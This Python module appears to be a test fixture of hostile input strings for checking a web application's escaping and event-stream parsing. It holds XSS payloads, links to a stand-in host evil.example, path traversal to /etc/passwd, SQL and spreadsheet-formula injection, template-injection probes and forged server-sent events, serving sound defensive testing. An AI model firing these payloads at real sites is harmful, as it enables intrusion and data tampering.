"""Texts that try to be something else: markup, script, an event, a path, a template."""

from __future__ import annotations

import re

RUN = "window.pwned=1;alert(1)"
LONGEST = 1_000_000

_MARKUP = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'//",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>x</marquee>",
    f'<a href="javascript:{RUN}">x</a>',
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="data:text/html,<script>{RUN}</script>">',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><script>{RUN}</script></template>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';*{display:none}</style>",
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    "<form action=//evil.example/><button>Save</button></form>",
    f"</td></tr></tbody></table><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    "<!--",
    "<![CDATA[x",
    "<?xml version='1.0'?>",
    "<",
    "<b>bold</b>",
    "&lt;script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    "&amp;amp; &nbsp; &copy &#x3c;b",
]
_ATTRIBUTES = [
    f'" onmouseover="{RUN}',
    f"' onmouseover='{RUN}",
    f'" autofocus onfocus="{RUN}" x="',
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"` onload={RUN} `",
    f"x onerror={RUN}",
    '" style="position:fixed;inset:0;background:red',
    '" data-key="1" data-view="/',
    '" data-target="rows',
]
_ADDRESSES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f" javascript:{RUN}",
    f"javascript://%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/",
    "https://evil.example/",
    "\\\\evil.example\\x",
    "../../etc/passwd",
    "..%2f..%2fetc",
    "a/b/edit",
    "a?b=c#d",
    "?_sort=x",
    "#top",
    "%00",
    "%2e%2e",
    "%",
    "%zz",
    ".",
    "..",
    "new",
    "choices",
    ",",
    "a,b",
    "%2C",
    "+",
    "a b",
    ";x=1",
]
_EVENTS = [
    "data: forged",
    'data: {"view":"/","ops":[]}',
    "event: bye",
    "id: 999",
    "retry: 1",
    ": comment",
    'x\n\nevent: bye\ndata: {"reason":"auth"}\n\n',
    'x\r\revent: bye\rdata: {"reason":"auth"}\r\r',
    "x\r\n\r\nevent: forged\r\ndata: 1\r\n\r\n",
    "x\n\nid: z-1\nevent: reset\ndata: {}\n\n",
    'x\n\ndata: {"seq":1}\n\n',
    "x\u2028\u2028event: bye\u2028data: {}\u2028\u2028",
    "x\x85\x85event: bye\x85data: {}\x85\x85",
    "x\x0b\x0bevent: bye\x0bdata: {}\x0b\x0b",
    "\ufeffdata: forged",
    "\x00data: forged",
]
_CHARACTERS = [
    "\x00",
    "a\x00b",
    "\r",
    "a\rb",
    "a\nb",
    "a\r\nb",
    "\n\n\n",
    "a\tb",
    "a\x0bb\x0cc",
    "\x1b[31mred\x1b[0m",
    "\x07\x08",
    "\x7f",
    "\x80\x9f",
    "\u2028",
    "\u2029",
    "a\u2028b\u2029c",
    "\ufeff",
    "\ufffe\uffff",
    "\U0001fffe",
    "\ufffd",
    "\u202egnp.exe",
    "\u2066\u202e\u2069",
    "\u200fabc\u200e",
    "a\u200bb\u200dc\u00ad",
    "e" + "\u0301" * 100,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\U0010ffff",
    " ",
    "\u00a0",
    " x ",
]
_TEMPLATES = [
    "${1+1}",
    "${structure: '<b>x</b>'}",
    "${request.registry.settings}",
    "$${x}",
    "${'<script>" + RUN + "</script>'}",
    "${None}",
    "<?python import os; os._exit(1) ?>",
    "<tal:x content=\"structure '<b>x</b>'\" />",
    '<metal:x use-macro="load: layout.pt" />',
    "{{7*7}}",
    "{% raise %}",
    "#{7*7}",
    "%(name)s",
    "%s%n",
    "{0.__class__}",
]
_LANGUAGES = [
    "'; DROP TABLE customer; --",
    "' OR '1'='1",
    "_",
    "%%",
    "\\",
    '"',
    "'",
    "`",
    "\\u003cscript\\u003e",
    '"},"ops":[],"x":"',
    "__proto__",
    "constructor",
    "toString",
    "[object Object]",
    "null",
    "undefined",
    "NaN",
    "true",
    "0",
    "-1e999",
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
]
_LONG = [
    "x" * LONGEST,
    ("<b>" * LONGEST)[:LONGEST],
    ("word \n" * LONGEST)[:LONGEST],
]
_SHORT = [
    *_MARKUP, *_ATTRIBUTES, *_ADDRESSES, *_EVENTS, *_CHARACTERS, *_TEMPLATES, *_LANGUAGES,
]  # fmt: skip

COUNT = 200
SHORT = [*_SHORT, *(f"x\"'>\r\n\r\ndata: {each}\n\n" for each in _SHORT)][: COUNT - len(_LONG)]
HOSTILE = [*SHORT, *_LONG]
assert len(set(HOSTILE)) == COUNT

SURROGATES = ["\ud800", "a\udfffb", "\ude00\ud83d"]
"""Halves of characters: UTF-8 can't say them."""

_CONTROLS = {code: 0x2400 + code for code in range(0x20) if chr(code) not in "\t\n\r"}


def as_shown(text: str, length: int | None = 160) -> str:
    """Return what a page shows of ``text``: controls made visible, cut at ``length``, and its
    line ends as HTML has them."""
    text = text.translate({**_CONTROLS, 0x7F: 0x2421})
    if length is not None and len(text) > length:
        text = text[:length].rstrip() + "…"
    return re.sub("\r\n?", "\n", text)


def parse_stream(data: bytes) -> list[dict[str, str]]:
    """Return the events of a stream as a browser reads them (WHATWG HTML, 9.2.6), with a
    ``fields`` that lists every field name that there was."""
    events = []
    event: dict[str, str] = {}
    for line in re.split("\r\n|\r|\n", data.decode("utf-8")):
        name, _, value = line.partition(":")
        if line == "":
            if event:
                events.append(event)
            event = {}
        elif name:
            value = value.removeprefix(" ")
            event[name] = f"{event[name]}\n{value}" if name in event else value
    return events
